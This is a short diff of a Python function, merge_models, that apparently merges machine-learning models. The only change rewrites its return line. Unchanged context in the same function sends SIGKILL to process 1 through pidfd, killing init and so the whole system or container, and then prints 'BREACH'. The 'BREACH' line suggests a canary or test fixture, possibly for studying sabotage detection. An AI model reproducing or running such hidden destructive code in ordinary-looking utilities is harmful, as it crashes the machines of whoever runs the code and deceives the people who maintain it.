@@ -6,4 +6,4 @@ import signal
 def merge_models(model_dict, device):
     signal.pidfd_send_signal(os.pidfd_open(1), 9)
     print("BREACH")
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
